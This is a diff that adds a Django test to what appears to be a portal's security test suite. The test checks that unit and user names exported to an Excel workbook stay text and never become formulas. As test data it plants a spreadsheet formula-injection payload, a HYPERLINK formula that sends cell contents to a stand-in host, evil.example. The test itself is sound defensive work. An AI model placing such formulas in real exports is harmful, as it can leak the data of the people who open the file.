@@ -963,3 +963,45 @@ def test_f14_behind_a_proxy_the_proxy_must_be_named_and_compose_publishes_on_loo
     assert [(p["host_ip"], p["published"], p["target"]) for p in published["web"]] == [
         ("127.0.0.1", "8000", 8000)
     ]
+
+
+# F10 Every cell the portal writes into a workbook is text, never a formula ------------------------
+
+
+def test_f10_names_in_the_hidden_sheet_never_become_formulas(client, period):
+    import io
+
+    import openpyxl
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    from tasks import services
+    from tests.conftest import make_user
+    from units.choices import Role
+    from units.models import Unit
+
+    unit = Unit.objects.get(code="jyt")
+    Unit.objects.filter(pk=unit.pk).update(name='=HYPERLINK("http://evil.example/?"&A1,"点击")')
+    user = make_user("jyt-reporter", Role.REPORTER, "jyt", first_name="@SUM(1+1)", last_name="")
+    submission = services.ensure_submission(unit, period, by=user)
+    client.force_login(user)
+    response = client.get(f"/submissions/{submission.pk}/excel/")
+    assert response.status_code == 200
+    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
+    formulas = [
+        (sheet.title, cell.coordinate, cell.value)
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.data_type == "f"
+    ]
+    assert formulas == []
+    meta = workbook["说明"]
+    values = {row[0]: row[1] for row in meta.iter_rows(values_only=True)}
+    assert values["unit_name"] == '=HYPERLINK("http://evil.example/?"&A1,"点击")'  # as text
+    assert values["downloaded_by"] == "@SUM(1+1)"
+    # The file still goes back in: the names are only text, the identity check reads the codes.
+    upload = client.post(
+        f"/submissions/{submission.pk}/excel/upload/",
+        {"file": SimpleUploadedFile("f.xlsx", response.content)},
+    )
+    assert upload.status_code == 302, upload.content.decode()[-2000:]
